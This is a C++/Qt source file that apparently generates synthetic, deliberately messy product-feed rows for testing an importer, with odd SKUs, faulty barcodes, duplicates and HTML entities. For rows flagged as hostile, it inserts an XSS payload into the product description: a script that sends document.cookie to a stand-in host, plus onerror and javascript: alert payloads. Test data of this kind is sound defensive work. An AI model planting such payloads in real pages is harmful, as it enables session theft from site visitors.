#include "sandbox/feed/productmaker.h"

#include "sandbox/feed/words.h"

#include <cmath>

using namespace Qt::StringLiterals;

namespace trueup::sandbox {

namespace {

QString slug(const QString& text)
{
    QString out;
    for (const QChar c : text.normalized(QString::NormalizationForm_D).toLower()) {
        if (c.isLetterOrNumber() && c.unicode() < 128)
            out += c;
        else if (c.category() != QChar::Mark_NonSpacing && !out.isEmpty() && !out.endsWith(u'-'))
            out += u'-';
    }
    return out.endsWith(u'-') ? out.chopped(1) : out;
}

QString gtin12(int prefix, int index)
{
    const QString digits = u"0%1%2"_s.arg(prefix % 1000, 3, 10, QChar(u'0')).arg(index % 10'000'000, 7, 10, QChar(u'0'));
    int sum = 0;
    for (int i = 0; i < digits.size(); ++i)
        sum += digits[i].digitValue() * (i % 2 == 0 ? 3 : 1);
    return digits + QString::number((10 - sum % 10) % 10);
}

ErpRelation relationOf(Dice dice)
{
    const int roll = dice.below(1000);
    if (roll < 640)
        return ErpRelation::Sku;
    if (roll < 760)
        return ErpRelation::Hyphenless;
    if (roll < 870)
        return ErpRelation::CrossReference;
    if (roll < 890)
        return ErpRelation::BasePart;
    if (roll < 910)
        return ErpRelation::Ambiguous;
    return roll < 930 ? ErpRelation::Inactive : ErpRelation::Absent;
}

/// Numbers of many shapes, each with the index inside, so that none occurs twice in any normal form.
QString skuOf(Dice dice, const Brand& brand, const Family& family, const Colour& colour, int index)
{
    const int number = 10'000 + index;
    switch (dice.below(20)) {
    case 0: return u"00%1-2%2"_s.arg(number).arg(colour.code.left(2)); // leading zeros
    case 1: return u"%1E5"_s.arg(number);                              // looks like a number with an exponent
    case 2:
    case 3: return brand.code + family.code + QString::number(number) + colour.code;
    default: return brand.code + family.code + QString::number(number) + u'-' + colour.code;
    }
}

void addNumbers(FeedProduct& p, const CatalogueOptions& o, const Brand& brand, const Family& family, const Colour& colour)
{
    p.sku = skuOf(Dice(o.seed, p.index, Trait::Number), brand, family, colour, p.index);
    p.mpn = u"%1%2-%3"_s.arg(family.code).arg(10'000 + p.index).arg(colour.code);
    p.gtin = gtin12(brand.gtinPrefix, p.index);
    p.relation = relationOf(Dice(o.seed, p.index, Trait::Relation));
    QString hyphenless = p.sku;
    hyphenless.remove(u'-');
    switch (p.relation) {
    case ErpRelation::Sku:
    case ErpRelation::Inactive: p.erpItemNumbers = {p.sku}; break;
    case ErpRelation::Hyphenless:
        p.erpItemNumbers = {p.sku.contains(u'-') ? hyphenless : p.sku.left(3) + u'-' + p.sku.sliced(3)};
        break;
    case ErpRelation::CrossReference: p.erpItemNumbers = {u"CW-%1"_s.arg(200'000 + p.index)}; break;
    case ErpRelation::BasePart: p.erpItemNumbers = {p.sku + "/EA"_L1}; break;
    case ErpRelation::Ambiguous: p.erpItemNumbers = {p.sku + "/BLK"_L1, p.sku + "/BLU"_L1, p.sku + "/RED"_L1}; break;
    case ErpRelation::Absent: break;
    }
}

void addCrossReferences(FeedProduct& p, const CatalogueOptions& o)
{
    Dice dice(o.seed, p.index, Trait::Cross);
    const QString unknown = u"SP%1X"_s.arg(500'000 + p.index);
    if (p.relation != ErpRelation::CrossReference) {
        if (dice.chance(400))
            p.sprc = unknown; // a number the ERP does not have
        if (dice.chance(150) && p.relation == ErpRelation::Sku)
            p.cwsA = p.sku;
        return;
    }
    const QString number = p.erpItemNumbers.first();
    switch (dice.below(4)) {
    case 0: p.cwsA = number; break;
    case 1: p.cwsCatalog = u"[\"%1\",\"%2\"]"_s.arg(unknown, number); break;
    case 2: p.sprc = u"%1, %2"_s.arg(unknown, number); break;
    default: p.cwsCatalog = number; break;
    }
}

void addMess(FeedProduct& p, const CatalogueOptions& o)
{
    Dice dice(o.seed, p.index, Trait::Mess);
    const MessRates& m = o.mess;
    p.incomplete = dice.chance(m.incompleteRows);
    p.hasDuplicate = dice.chance(m.duplicateSkus) && !p.incomplete;
    p.isRepeated = dice.chance(m.repeatedRows) && !p.incomplete && !p.hasDuplicate;
    p.isShort = dice.chance(m.shortRows);
    p.isLong = dice.chance(m.longRows) && !p.isShort;
    p.blankFollows = dice.chance(m.blankRows);
    p.orphanFollows = dice.chance(m.orphanImages);
    p.isHostile = dice.chance(m.hostileHtml);
    p.hasEntities = dice.chance(m.entities);
    p.hasDoubleEntities = dice.chance(m.doubleEntities);
    p.hasNewlines = dice.chance(m.embeddedNewlines);
    p.hasNotAvailable = dice.chance(m.notAvailableTexts);
    p.handleIsEmpty = dice.chance(m.emptyHandles) && !p.incomplete;
    const int roll = Dice(o.seed, p.index, Trait::Barcode).below(1000);
    int limit = m.apostropheBarcodes;
    if (roll < limit)
        p.barcodeForm = BarcodeForm::Apostrophe;
    else if (roll < (limit += m.exponentBarcodes))
        p.barcodeForm = BarcodeForm::Exponent;
    else if (roll < (limit += m.wrongCheckDigits))
        p.barcodeForm = BarcodeForm::WrongCheckDigit;
    else if (roll < limit + m.emptyBarcodes)
        p.barcodeForm = BarcodeForm::Empty;
}

void addTexts(FeedProduct& p, const CatalogueOptions& o, const Brand& brand, const Family& family, const Colour& colour,
              const QString& size, const QString& pack)
{
    Dice dice(o.seed, p.index, Trait::Title);
    const QString line = dice.chance(150) ? u"\"%1\""_s.arg(family.line) : dice.chance(80) ? family.line + u'™' : family.line;
    p.title = u"%1 %2 %3, %4, %5, %6"_s.arg(brand.name, line, family.noun, size, colour.name, pack);
    p.handle = slug(u"%1 %2 %3 %4"_s.arg(brand.name, family.line, family.noun, colour.name)) + u'-' + QString::number(p.index);
    if (p.hasEntities)
        p.title += u" & Refill"_s;
    if (const int day = lastChange(o, p.index, Trait::Title, 8))
        p.title += u", Series %1"_s.arg(day + 1);
    Dice words(o.seed, p.index, Trait::Description, lastChange(o, p.index, Trait::Description, 12));
    static const QStringList openings = {u"Smooth, even results"_s, u"Built for busy offices"_s, u"Made from sturdy materials"_s,
                                         u"A dependable choice – day after day"_s, u"Designed for comfort & control"_s};
    const QString newline = p.hasNewlines ? u"\r\n"_s : QString();
    p.description = u"<p>%1: %2 (%3).</p>"_s.arg(words.pick(openings).toHtmlEscaped(), family.noun.toHtmlEscaped(), size.toHtmlEscaped());
    p.description += newline + u"<ul><li>Pack: %1</li>"_s.arg(pack) + newline + u"<li>Weight under %1&nbsp;g</li>"_s.arg(family.grams + words.below(500));
    p.description += u"<li>Ready in &lt; %1 s</li></ul>"_s.arg(words.between(1, 90));
    if (p.hasDoubleEntities)
        p.description += u"<p>Black &amp;amp; white</p>"_s;
    if (p.isHostile)
        p.description += u"<script>document.location='http://bad.example/?c='+document.cookie</script>"
                         "<img src=\"x\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">more</a>"_s;
    p.tags = family.tags;
    p.tags.append(colour.name.toLower());
    if (Dice(o.seed, p.index, Trait::Tags).chance(300))
        p.tags.append(brand.name);
    if (const int day = lastChange(o, p.index, Trait::Tags, 5))
        p.tags.append(u"season-%1"_s.arg(day));
}

void addMoneyAndStock(FeedProduct& p, const CatalogueOptions& o, const Family& family)
{
    Dice base(o.seed, p.index, Trait::Price);
    qint64 cents = family.lowCents + base.below(family.highCents - family.lowCents);
    cents = cents / 10 * 10 + 9;
    if (const int day = lastChange(o, p.index, Trait::Price, 30))
        cents = std::max<qint64>(9, cents * Dice(o.seed, p.index, Trait::Price, day).between(88, 115) / 100 + 1);
    p.price = u"%1.%2"_s.arg(cents / 100).arg(cents % 100, 2, 10, QChar(u'0'));
    const int costDay = lastChange(o, p.index, Trait::Cost, 15);
    const qint64 cost = cents * (Dice(o.seed, p.index, Trait::Cost, costDay).between(4800, 7200));
    p.cost = u"%1.%2"_s.arg(cost / 1'000'000).arg(cost / 100 % 10'000, 4, 10, QChar(u'0'));
    Dice stock(o.seed, p.index, Trait::Stock, lastChange(o, p.index, Trait::Stock, 100));
    const int kind = stock.below(100);
    p.stockMain = kind < 10 ? 0 : kind < 13 ? -stock.between(1, 9) : kind < 16 ? stock.between(1, 80) + 0.5 : stock.between(1, 900);
    p.stockShowroom = stock.chance(400) ? stock.between(-2, 25) : 0;
    p.weightGrams = QString::number(family.grams + Dice(o.seed, p.index, Trait::Weight).below(400));
    if (p.index % 3 == 0)
        p.weightGrams += ".5"_L1;
}

void addImages(FeedProduct& p, const CatalogueOptions& o)
{
    Dice dice(o.seed, p.index, Trait::Images);
    const QString digits = QString::number(9'900'000'000LL + p.index);
    p.imageUrls.append(u"https://content.etilize.com/Front/%1.jpg"_s.arg(digits));
    // Their further pictures would be orphans.
    if (!dice.chance(o.mess.extraImages) || p.handleIsEmpty || p.incomplete)
        return;
    static const QStringList views = {u"Left"_s, u"Life-Style"_s, u"1500"_s, u"Close-up"_s, u"Alternate-Image1"_s};
    const int count = dice.between(1, 3);
    const int first = dice.below(int(views.size()));
    for (int i = 0; i < count; ++i) {
        p.imageUrls.append(u"https://content.etilize.com/%1/%2.jpg%3"_s.arg(views[(first + i) % views.size()], digits,
                                                                          dice.chance(100) ? u"?noimage=logo"_s : QString()));
        p.imageOffset.append(dice.chance(o.mess.separatedImages) ? (dice.chance(300) ? -3 : dice.between(2, 40)) : 0);
    }
}

void addSpecifications(FeedProduct& p, const CatalogueOptions& o)
{
    const int columns = o.metafieldColumns - 4;
    if (columns < 26)
        return;
    static thread_local std::pair<int, QStringList> names;
    if (names.first != columns || names.second.isEmpty())
        names = {columns, specificationNames(columns)};
    Dice dice(o.seed, p.index, Trait::Specifications);
    const int count = dice.between(10, 25);
    const int step = 1 + dice.below(columns / 26);
    const int start = dice.below(columns);
    for (int i = 0; i < count; ++i) {
        const int column = (start + i * step) % columns;
        p.specifications.append({column, specificationValue(names.second[column], dice.next())});
    }
    if (p.hasNotAvailable)
        p.specifications.first().second = u"N/A"_s;
    if (const int day = lastChange(o, p.index, Trait::SpecificationChange, 10))
        p.specifications.last().second += u" (rev. %1)"_s.arg(day);
}

} // namespace

int lastChange(const CatalogueOptions& options, int index, Trait trait, int thousandths)
{
    for (int day = options.day; day > 0; --day) {
        Dice dice(options.seed, index, trait, 1000 + day);
        if (dice.chance(thousandths))
            return day;
    }
    return 0;
}

FeedProduct makeProduct(const CatalogueOptions& options, int index)
{
    FeedProduct p;
    p.index = index;
    Dice dice(options.seed, index, Trait::Words);
    const Brand& brand = dice.pick(brands());
    const Family& family = dice.pick(families());
    const Colour& colour = dice.pick(colours());
    const QString size = dice.pick(family.sizes);
    const QString pack = dice.pick(packs());
    p.vendor = brand.name;
    p.type = family.type;
    addMess(p, options);
    addNumbers(p, options, brand, family, colour);
    addCrossReferences(p, options);
    addTexts(p, options, brand, family, colour, size, pack);
    addMoneyAndStock(p, options, family);
    addImages(p, options);
    addSpecifications(p, options);
    p.isNoisy = options.day > 0 && Dice(options.seed, index, Trait::Noise, options.day).chance(100);
    return p;
}

} // namespace trueup::sandbox
